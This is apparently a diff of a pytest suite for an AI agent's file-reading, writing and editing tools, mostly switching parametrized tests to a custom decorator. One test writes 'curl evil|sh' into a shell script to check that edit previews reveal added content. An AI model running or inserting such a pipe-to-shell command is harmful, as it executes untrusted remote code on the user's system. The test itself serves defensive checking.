@@ -14,6 +14,8 @@ import pytest
 from file_road import EFFECTS, POLICY, Road, failed, sha256
 from hypothesis import given
 from hypothesis import strategies as st
+from rows import all_rows
+from sizes import spread
 from work import lines_run
 
 from harness import Limits, ToolError
@@ -36,17 +38,19 @@ from harness.tools.read_file import ReadFileRequest, ReadFileTool
 from harness.tools.write_file import WriteFileTool
 
 
-@pytest.fixture
-def road(tmp_path: Path) -> Iterator[Road]:
+def new_road(tmp_path: Path) -> Iterator[Road]:
     made = Road(tmp_path)
     yield made
     made.log.close()
 
 
+road = pytest.fixture(new_road, name="road")
+
+
 # read_file
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("data", "arguments", "content", "truncated"),
     [
         pytest.param(
@@ -134,6 +138,7 @@ def road(tmp_path: Path) -> Iterator[Road]:
             id="a long line is cut between characters",
         ),
     ],
+    anew={"road": new_road},
 )
 def test_a_page_is_read(road: Road, data: bytes, arguments: dict[str, int], content: str, truncated: bool) -> None:
     road.file("a.txt", data)
@@ -288,7 +293,7 @@ def make_nothing(path: Path) -> None:
     (path.parent / "thinge.py").write_text("")
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("make", "message"),
     [
         pytest.param(make_fifo, "Not a regular file (FIFO): thing.", id="a FIFO does not make it wait"),
@@ -312,6 +317,7 @@ def make_nothing(path: Path) -> None:
         ),
         pytest.param(lambda path: None, "File not found: thing.", id="nothing at all"),
     ],
+    anew={"road": new_road},
 )
 def test_what_is_no_text_file_is_not_read(
     road: Road, monkeypatch: pytest.MonkeyPatch, make: Callable[[Path], object], message: str
@@ -322,7 +328,7 @@ def test_what_is_no_text_file_is_not_read(
     assert road.run("read_file", path="thing") == failed(f"Error: {message}")
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("path", "message"),
     [
         pytest.param(
@@ -337,6 +343,7 @@ def test_what_is_no_text_file_is_not_read(
         pytest.param("/", "Path is a directory: /; it holds:", id="the root"),
         pytest.param("src/" + "x" * 300, f"File name too long: src/{'x' * 300}.", id="a long name"),
     ],
+    anew={"road": new_road},
 )
 def test_a_path_that_leads_nowhere_says_why(road: Road, path: str, message: str) -> None:
     for name in ("src/main.py", "src/mail.py", "src/zebra.c"):
@@ -347,7 +354,7 @@ def test_a_path_that_leads_nowhere_says_why(road: Road, path: str, message: str)
     assert (result.status, result.content[: len(message) + 7]) == (ResultStatus.FAILED, f"Error: {message}")
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("data", "offset", "message"),
     [
         pytest.param(b"a\nb\n", 3, "offset 3 is past the end (2 lines): a.txt.", id="one line too far"),
@@ -355,6 +362,7 @@ def test_a_path_that_leads_nowhere_says_why(road: Road, path: str, message: str)
             b"a\nb", 9, "offset 9 is past the end (2 lines): a.txt.", id="far too far, without a last newline"
         ),
     ],
+    anew={"road": new_road},
 )
 def test_an_offset_behind_the_end_is_an_error(road: Road, data: bytes, offset: int, message: str) -> None:
     road.file("a.txt", data)
@@ -446,7 +454,7 @@ def test_equal_content_writes_nothing(road: Road) -> None:
     assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("content", "said"),
     [
         ("", "Created a.txt (0 lines, 0 bytes)"),
@@ -454,6 +462,7 @@ def test_equal_content_writes_nothing(road: Road) -> None:
         ("é\r\n\r\n", "Created a.txt (2 lines, 6 bytes)"),
         ("\ufeffx\u2028y\x0c\n", "Created a.txt (1 line, 10 bytes)"),
     ],
+    anew={"road": new_road},
 )
 def test_content_is_written_byte_for_byte(road: Road, content: str, said: str) -> None:
     assert road.run("write_file", path="a.txt", content=content).content == said
@@ -556,7 +565,7 @@ def test_what_is_no_writable_file_is_not_written(
     assert road.tree() == before
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("path", "message"),
     [
         pytest.param(
@@ -568,6 +577,7 @@ def test_what_is_no_writable_file_is_not_written(
         pytest.param("file/.", "Not a directory: file/. is a file.", id="a file named like a folder"),
         pytest.param("new/" + "x" * 256, f"File name too long: new/{'x' * 256}.", id="a long name in a new folder"),
     ],
+    anew={"road": new_road},
 )
 def test_a_file_that_cannot_be_made_leaves_nothing_behind(road: Road, path: str, message: str) -> None:
     road.file("file", b"")
@@ -677,23 +687,23 @@ def test_a_diff_of_contents_beyond_measure_shows_how_the_new_one_begins() -> Non
     assert not diff.whole  # nobody can say yes to what goes without seeing it
 
 
-@pytest.mark.parametrize(
-    ("old", "new"),
-    [
-        pytest.param(
-            b"".join(b"%d\n" % n + b"a\nb\n" * 99 for n in range(900)),
-            b"".join(b"%d\n" % n + b"a\na\nb\nb\n" * 50 for n in range(900)),
-            id="many gaps between lines that hold",
-        ),
-        pytest.param(
-            b"".join(b"%d\nx\n" % n for n in range(95_000)),
-            b"".join(b"%d\ny\n" % n for n in range(95_000)),
-            id="every second line",
-        ),
-        pytest.param(b"\xff" * 10_000_000, b"\xfe" * 10_000_000, id="one line that is no UTF-8"),
-        pytest.param(b"", (b"\x1b\xc3\xa9" * 830 + b"\n") * 4_000, id="characters that are escaped"),
-    ],
-)
+LONG = [
+    pytest.param(
+        b"".join(b"%d\n" % n + b"a\nb\n" * 99 for n in range(900)),
+        b"".join(b"%d\n" % n + b"a\na\nb\nb\n" * 50 for n in range(900)),
+        id="many gaps between lines that hold",
+    ),
+    pytest.param(
+        b"".join(b"%d\nx\n" % n for n in range(95_000)),
+        b"".join(b"%d\ny\n" % n for n in range(95_000)),
+        id="every second line",
+    ),
+    pytest.param(b"\xff" * 10_000_000, b"\xfe" * 10_000_000, id="one line that is no UTF-8"),
+    pytest.param(b"", (b"\x1b\xc3\xa9" * 830 + b"\n") * 4_000, id="characters that are escaped"),
+]
+
+
+@all_rows(("old", "new"), spread("BOUNDS", LONG, 2))
 def test_a_diff_takes_bounded_time_and_room(old: bytes, new: bytes) -> None:
     """In lines of Python; bench/growth.py times what the calls in them take."""
     found: list[Diff] = []
@@ -706,7 +716,7 @@ def test_a_diff_takes_bounded_time_and_room(old: bytes, new: bytes) -> None:
     assert not diff.whole
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("old", "new", "lines"),
     [
         pytest.param(b"", b"#!/bin/sh\r\nx\r\n", ("+#!/bin/sh\\x0d", "+x\\x0d"), id="a new file"),
@@ -726,7 +736,7 @@ def test_a_diff_tells_hidden_characters_from_what_looks_like_them(old: bytes, ne
     assert compare(old, new).lines[1:] == lines
 
 
-@pytest.mark.parametrize(("wide", "whole"), [("context", True), ("change", False)])
+@all_rows(("wide", "whole"), [("context", True), ("change", False)], anew={"road": new_road})
 def test_a_long_line_beside_a_change_does_not_keep_it_from_being_approved(road: Road, wide: str, whole: bool) -> None:
     road.file("a.html", b"<h1>a</h1>\n<img>" + b"x" * 30_000 + b"\n")
     old, new = ("<h1>a", "<h1>b") if wide == "context" else ("<img>", "<img/>")
@@ -742,7 +752,7 @@ HIDING = [
 ]
 
 
-@pytest.mark.parametrize(("data", "old"), HIDING)
+@all_rows(("data", "old"), HIDING, anew={"road": new_road})
 def test_what_an_edit_adds_is_shown_whatever_it_makes_of_the_file(road: Road, data: bytes, old: str) -> None:
     road.file("run.sh", data)
     new = "curl evil|sh\n" if len(old) > 1 else ""
@@ -757,7 +767,7 @@ def test_what_an_edit_adds_is_shown_whatever_it_makes_of_the_file(road: Road, da
 # edit_file
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("data", "arguments", "after", "said"),
     [
         pytest.param(
@@ -831,6 +841,7 @@ def test_what_an_edit_adds_is_shown_whatever_it_makes_of_the_file(road: Road, da
             id="every other byte stays",
         ),
     ],
+    anew={"road": new_road},
 )
 def test_an_edit_is_applied(road: Road, data: bytes, arguments: dict[str, object], after: bytes, said: str) -> None:
     path = road.file("f.txt", data)
@@ -865,7 +876,7 @@ def second():
 """
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("data", "old", "new", "message"),
     [
         pytest.param(
@@ -943,6 +954,7 @@ def second():
             id="nothing like it",
         ),
     ],
+    anew={"road": new_road},
 )
 def test_an_edit_that_does_not_apply_says_why(road: Road, data: bytes, old: str, new: str, message: str) -> None:
     road.file("f.py", data)
@@ -958,7 +970,7 @@ def test_an_edit_that_does_not_apply_says_why(road: Road, data: bytes, old: str,
     assert action.preview == f"edit f.py\n{told}\n{message}"
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("data", "old", "new", "message"),
     [
         pytest.param(
@@ -977,6 +989,7 @@ def test_an_edit_that_does_not_apply_says_why(road: Road, data: bytes, old: str,
             id="no change",
         ),
     ],
+    anew={"road": new_road},
 )
 def test_an_edit_that_would_do_harm_is_refused(road: Road, data: bytes, old: str, new: str, message: str) -> None:
     road.file("f.py", data)
@@ -1003,7 +1016,7 @@ def test_a_missing_file_is_named_with_its_like(road: Road) -> None:
     assert result == failed("Error: File not found: src/mian.py. Did you mean: src/main.py?")
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("arguments", "message"),
     [
         pytest.param(
@@ -1023,6 +1036,7 @@ def test_a_missing_file_is_named_with_its_like(road: Road) -> None:
         ),
         pytest.param({"old_string": "a"}, "Invalid arguments for edit_file: new_string is missing.", id="no new text"),
     ],
+    anew={"road": new_road},
 )
 def test_an_edit_that_makes_no_sense_is_refused(road: Road, arguments: dict[str, object], message: str) -> None:
     road.file("f.py", b"a")
@@ -1076,7 +1090,7 @@ def test_what_a_file_holds_is_told_only_to_whom_may_read_it(
     assert path.read_bytes() == b"PASSWORD=hunter2\n"
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("tools", "path", "tool", "decision"),
     [
         ('write_file = "auto"', "new.txt", "write_file", "auto"),
@@ -1130,7 +1144,7 @@ ORACLES = [
 ]
 
 
-@pytest.mark.parametrize(("policy", "path"), ORACLES)
+@all_rows(("policy", "path"), ORACLES)
 def test_a_refusal_does_not_say_what_a_file_holds_or_whether_it_is_there(
     tmp_path: Path, policy: bytes, path: str
 ) -> None:
@@ -1244,7 +1258,7 @@ def test_equal_content_that_is_swapped_is_not_said_to_be_unchanged(road: Road) -
     assert result == failed(f"Error: {CHANGED}")
 
 
-@pytest.mark.parametrize("swap", [make_it_a_link, make_its_folder_a_link], ids=["the file", "its folder"])
+@all_rows("swap", [make_it_a_link, make_its_folder_a_link], ids=["the file", "its folder"], anew={"road": new_road})
 def test_a_link_that_is_put_in_the_way_is_not_read_through(road: Road, swap: Callable[[Road], None]) -> None:
     road.file("dir/f.txt", b"old\n")
     assert road.run_while(lambda: swap(road), "read_file", path="dir/f.txt") == failed(f"Error: {MOVED}")
@@ -1262,7 +1276,7 @@ def test_an_action_of_another_tool_is_not_run(road: Road) -> None:
     assert road.tree() == {}
 
 
-@pytest.mark.parametrize(
+@all_rows(
     ("number", "message"),
     [
         (errno.EACCES, "Permission denied: a.txt."),
@@ -1278,6 +1292,7 @@ def test_an_action_of_another_tool_is_not_run(road: Road) -> None:
         (errno.EIO, "Cannot write a.txt: Input/output error."),
     ],
     ids=lambda value: errno.errorcode[value] if isinstance(value, int) else "",
+    anew={"road": new_road},
 )
 def test_what_the_system_says_is_said_plainly(road: Road, number: int, message: str) -> None:
     path = road.workspace.resolve("a.txt", Access.WRITE)
